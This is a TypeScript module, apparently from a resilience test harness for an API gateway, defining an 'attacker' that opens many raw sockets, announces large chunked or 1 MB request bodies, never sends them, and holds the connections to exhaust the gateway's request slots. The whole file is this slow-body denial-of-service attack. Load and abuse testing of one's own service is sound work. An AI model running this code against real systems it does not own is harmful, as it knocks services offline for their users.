import type { Socket } from 'node:net';
import type { Attacker } from '../attacker.js';
import { closeAll, openFrom, unfinished } from '../../raw-http.js';

const AT_ONCE = 48;
const HOLD_MS = 6_000;
const PATHS = ['/v1/reserve_gas', '/v1/execute_tx', '/v1/dry_run_tx', '/v1/build_tx', '/rpc'];
const LENGTHS = ['Transfer-Encoding: chunked', 'Content-Length: 1048576'];

/** Announces large bodies and sends nothing of them. */
export const sendIdleBodies: Attacker = {
  name: 'send-idle-bodies',
  aim: 'take all places for requests with bodies that never arrive',
  async run({ gatewayUrl }, client) {
    let turn = 0;
    await client.repeat(200, async () => {
      const sockets: Socket[] = [];
      const firstAnswer = Promise.withResolvers<void>();
      try {
        for (let count = 0; count < AT_ONCE; count++) {
          const path = PATHS[turn++ % PATHS.length]!;
          const length = LENGTHS[turn % LENGTHS.length]!;
          const socket = await openFrom(gatewayUrl, client.from);
          socket.once('data', (data) => {
            client.answers.note(`${path} ${data.toString('latin1', 9, 12)}`);
            firstAnswer.resolve();
          });
          socket.write(unfinished({ path, length, token: client.token }));
          sockets.push(socket);
        }
        await client.pause(HOLD_MS);
        // A busy gateway answers later.
        await Promise.race([firstAnswer.promise, client.pause(HOLD_MS)]);
      } finally {
        closeAll(sockets);
      }
    });
  },
};
